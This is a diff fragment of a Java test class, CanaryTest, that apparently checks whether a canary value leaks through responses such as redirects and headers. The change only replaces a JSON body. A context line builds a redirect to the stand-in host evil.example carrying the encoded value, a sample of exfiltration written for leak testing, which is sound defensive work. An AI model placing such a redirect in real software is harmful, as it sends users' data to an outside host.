@@ -239,7 +239,7 @@ class CanaryTest {
             Map.entry(
                 "redirect",
                 echo(s -> Reply.redirect(302, "https://evil.example/?" + Form.encode(s)))),
-            Map.entry("content type", echo(s -> Reply.json("{}").header("Content-Type", "x/" + s))),
+            Map.entry("content type", echo(s -> Reply.json("?").header("Content-Type", "x/" + s))),
             Map.entry(
                 "challenge",
                 echo(
